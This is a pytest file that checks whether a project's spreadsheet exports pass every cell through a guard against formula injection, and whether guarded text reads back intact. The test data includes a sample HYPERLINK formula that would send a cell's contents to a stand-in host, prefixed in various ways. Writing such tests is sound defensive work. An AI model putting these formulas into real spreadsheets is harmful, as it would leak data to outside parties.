"""Whoever writes a spreadsheet takes the one guard against formulas there is (D8)."""

import re
from pathlib import Path

import pytest

from outreach.design.spreadsheets import neutral, plain

ROOT = Path(__file__).resolve().parents[2]
WRITES = re.compile(r"csv\.writer\(|Workbook\(|\.export\(\"(csv|xlsx)\"")
# No person opens these: a part of a national file as we read it again, and the demo's own input.
NOT_OPENED = {"registry/imports/national_parts.py", "outreach/demo/list_files.py", "outreach/demo/figure_files.py"}
# Cells neutralised by the resource whose file they send.
BY_RESOURCE = {"registry/views/reference_data.py": "registry/resources/rows.py"}


def test_every_writer_of_spreadsheets_uses_the_guard() -> None:
    writers = [
        path.relative_to(ROOT).as_posix()
        for app in ("registry", "campaigns", "popup_sites", "reports", "outreach")
        for path in sorted((ROOT / app).rglob("*.py"))
        if WRITES.search(path.read_text(encoding="utf-8"))
    ]
    assert len(writers) > len(NOT_OPENED)
    unguarded = [
        name
        for name in writers
        if name not in NOT_OPENED and "neutral(" not in (ROOT / BY_RESOURCE.get(name, name)).read_text(encoding="utf-8")
    ]
    assert not unguarded


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "＝", "＋", "－", "＠"])
def test_a_text_that_would_be_calculated_is_a_text_and_reads_back(start: str) -> None:
    text = f'{start}HYPERLINK("http://ond.example?"&A1)'
    assert neutral(text) == f"'{text}"
    assert plain(neutral(text)) == text


@pytest.mark.parametrize("value", ["Aase", "O'Brien", "'", 7, 7.5, ""])
def test_the_rest_is_left_alone(value: object) -> None:
    assert neutral(value) == value
